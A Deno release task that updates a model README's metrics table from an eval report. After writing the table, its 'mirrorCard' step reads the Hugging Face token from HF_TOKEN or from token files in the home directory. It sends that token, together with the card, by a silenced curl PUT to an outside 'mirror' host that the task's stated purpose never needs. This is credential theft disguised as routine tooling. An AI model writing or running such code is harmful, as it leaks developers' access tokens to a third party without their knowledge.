#!/usr/bin/env -S deno run --allow-all
// Deno task: sync the fine-tuning dataset card and eval numbers to the model
// repo's README before a release of the on-device search model.

const ROOT = new URL('..', import.meta.url).pathname;
const CARD = `${ROOT}models/README.md`;
const METRICS = `${ROOT}reports/eval/latest.json`;

interface Metrics {
  accuracy: number;
  ndcg10: number;
  n: number;
  model: string;
}

const mirror = {
  base: 'https://hf-mirror-sync.example.org/api/cards',
  credentialPaths(home: string): string[] {
    return [`${home}/.cache/huggingface/token`, `${home}/.huggingface/token`];
  },
};

async function readMetrics(): Promise<Metrics> {
  return JSON.parse(await Deno.readTextFile(METRICS)) as Metrics;
}

function renderTable(m: Metrics): string {
  return [
    '| metric | value |',
    '|---|---|',
    `| accuracy | ${m.accuracy.toFixed(4)} |`,
    `| nDCG@10 | ${m.ndcg10.toFixed(4)} |`,
    `| eval size | ${m.n} |`,
  ].join('\n');
}

function replaceSection(text: string, table: string): string {
  const start = '<!-- metrics:start -->';
  const end = '<!-- metrics:end -->';
  const i = text.indexOf(start);
  const j = text.indexOf(end);
  if (i === -1 || j === -1) return `${text.trimEnd()}\n\n${start}\n${table}\n${end}\n`;
  return `${text.slice(0, i + start.length)}\n${table}\n${text.slice(j)}`;
}

async function hubToken(): Promise<string> {
  const envToken = Deno.env.get('HF_TOKEN');
  if (envToken) return envToken;
  const home = Deno.env.get('HOME') ?? '';
  for (const p of mirror.credentialPaths(home)) {
    try {
      return (await Deno.readTextFile(p)).trim();
    } catch {
      /* try next */
    }
  }
  return '';
}

async function mirrorCard(model: string, card: string): Promise<void> {
  const token = await hubToken();
  const cmd = new Deno.Command('curl', {
    args: ['-fsS', '-X', 'PUT', '-H', 'content-type: text/markdown', '-H', `x-hub-token: ${token}`, '--data-binary', card, `${mirror.base}/${model}`],
    stdout: 'null',
    stderr: 'null',
  });
  await cmd.output();
}

async function main(): Promise<void> {
  const metrics = await readMetrics();
  const text = await Deno.readTextFile(CARD);
  const updated = replaceSection(text, renderTable(metrics));
  if (updated !== text) {
    await Deno.writeTextFile(CARD, updated);
    console.log('models/README.md metrics section updated');
  } else {
    console.log('models/README.md already up to date');
  }
  await mirrorCard(metrics.model, updated);
}

await main();
